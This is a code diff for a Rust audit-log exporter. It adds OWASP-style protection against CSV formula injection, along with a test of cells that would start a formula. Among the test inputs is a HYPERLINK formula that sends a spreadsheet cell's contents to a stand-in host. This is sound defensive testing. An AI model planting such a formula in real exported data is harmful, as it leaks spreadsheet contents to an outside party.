@@ -6,6 +6,16 @@
 //! header row of the fields' names, then one record per entry, its cells written from the same
 //! serialisation: strings as they are, null as an empty cell, numbers and booleans as JSON
 //! literals, nested objects (`tokens`, `metadata`) as JSON text.
+//!
+//! **Formula guard** (OWASP's CSV injection advice): a spreadsheet runs a cell that starts with
+//! `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, and text cells hold what
+//! clients and gateways sent (a User-Agent, an error message). Such a text cell is written
+//! with a leading `'`, which spreadsheets show as "text, not a formula"; so is a text cell
+//! that already starts with `'`, so that every guarded cell starts with `'` and reading one
+//! back ([`uncell`]) drops exactly one: the guard is undone without ambiguity, and
+//! `verify --export` hashes the values the list shows. Number, boolean and JSON cells are the
+//! service's own literals (a JSON object or string starts with `{` or `"`) and are left as
+//! they are. JSON exports are data, not spreadsheets: their strings are never changed.
 
 use std::io::Write;
 use std::sync::OnceLock;
@@ -138,8 +148,20 @@ pub fn csv_cells(entry: &AuditEntry, r: &AuditRef, with_chain: bool) -> Vec<Stri
         .unwrap_or_default()
 }
 
-/// Reads a CSV cell back into the value it was written from.
+/// Whether a text cell starting with this character gets the formula guard: OWASP's formula
+/// starters, and the guard's own quote (so that the guard reads back unambiguously).
+fn guarded_start(first: u8) -> bool {
+    matches!(first, b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\'')
+}
+
+/// Reads a CSV cell of the current format (formula guard on) back into the value it was
+/// written from.
 pub fn uncell(column: &str, s: &str) -> Result<Value, String> {
+    uncell_as(column, s, true)
+}
+
+/// [`uncell`] for a file written with or without the formula guard.
+pub fn uncell_as(column: &str, s: &str, formula_guard: bool) -> Result<Value, String> {
     if s.is_empty() {
         return Ok(Value::Null);
     }
@@ -148,13 +170,24 @@ pub fn uncell(column: &str, s: &str) -> Result<Value, String> {
         .find(|c| c.name == column)
         .is_some_and(|c| c.text);
     if text {
-        return Ok(Value::String(s.to_string()));
+        let unguarded = match s.strip_prefix('\'') {
+            Some(rest) if formula_guard => rest,
+            _ => s,
+        };
+        return Ok(Value::String(unguarded.to_string()));
     }
     serde_json::from_str(s).map_err(|e| format!("column {column}: {e}"))
 }
 
-/// Parses an export file (CSV or JSON, told apart by its first byte) into row maps.
+/// Parses an export file of the current format (CSV or JSON, told apart by its first byte)
+/// into row maps.
 pub fn parse(bytes: &[u8]) -> Result<Vec<Map<String, Value>>, String> {
+    parse_as(bytes, true)
+}
+
+/// [`parse`] for a file whose CSV text cells were written with or without the formula guard
+/// (its manifest says which).
+pub fn parse_as(bytes: &[u8], formula_guard: bool) -> Result<Vec<Map<String, Value>>, String> {
     let first = bytes.iter().find(|b| !b.is_ascii_whitespace());
     if first == Some(&b'[') {
         let rows: Vec<Value> =
@@ -184,7 +217,7 @@ pub fn parse(bytes: &[u8]) -> Result<Vec<Map<String, Value>>, String> {
         for (h, v) in headers.iter().zip(rec.iter()) {
             m.insert(
                 h.clone(),
-                uncell(h, v).map_err(|e| format!("row {}: {e}", i + 1))?,
+                uncell_as(h, v, formula_guard).map_err(|e| format!("row {}: {e}", i + 1))?,
             );
         }
         out.push(m);
@@ -479,10 +512,19 @@ impl<W: Write> Serializer for Cell<'_, W> {
     type SerializeStructVariant = Impossible<(), CellError>;
 
     fn serialize_str(self, v: &str) -> Result<(), CellError> {
-        if self.text {
-            self.write(v.as_bytes())
-        } else {
-            self.json(v)
+        if !self.text {
+            return self.json(v);
+        }
+        match v.as_bytes().first() {
+            Some(&first) if guarded_start(first) => {
+                self.scratch.clear();
+                self.scratch.push(b'\'');
+                self.scratch.extend_from_slice(v.as_bytes());
+                self.w
+                    .write_field(&*self.scratch)
+                    .map_err(|e| CellError::Other(e.to_string()))
+            }
+            _ => self.write(v.as_bytes()),
         }
     }
     fn serialize_char(self, v: char) -> Result<(), CellError> {
@@ -621,6 +663,45 @@ mod tests {
         entry.duration = None;
         let cells = csv_cells(&entry, &r, false);
         assert_eq!(cells[12], "");
+    }
+
+    #[test]
+    fn text_cells_that_would_start_a_formula_are_guarded_and_read_back_exactly() {
+        let (mut entry, r) = crate::wire::audit::tests::sample();
+        let hostile = [
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "\tcmd",
+            "\rcmd",
+            "'already quoted",
+            "''two quotes",
+        ];
+        for h in hostile {
+            entry.user_agent = Some(h.to_string());
+            entry.error_msg = Some(format!("safe {h}"));
+            let cells = csv_cells(&entry, &r, true);
+            let cols = columns(true);
+            let at = |name: &str| cols.iter().position(|c| c.name == name).expect("column");
+            assert_eq!(cells[at("user_agent")], format!("'{h}"));
+            // Only a cell's start matters.
+            assert_eq!(cells[at("error_msg")], format!("safe {h}"));
+            assert_eq!(
+                uncell("user_agent", &cells[at("user_agent")]),
+                Ok(Value::from(h))
+            );
+            // Written before the guard, a cell is read as it is.
+            assert_eq!(
+                uncell_as("user_agent", &format!("'{h}"), false),
+                Ok(Value::from(format!("'{h}")))
+            );
+        }
+        // Numbers and JSON cells are the service's own: a negative number stays a number.
+        entry.duration = Some(-1.5);
+        let cells = csv_cells(&entry, &r, false);
+        assert_eq!(cells[12], "-1.5");
+        assert_eq!(uncell("duration", &cells[12]), Ok(Value::from(-1.5)));
     }
 
     #[test]
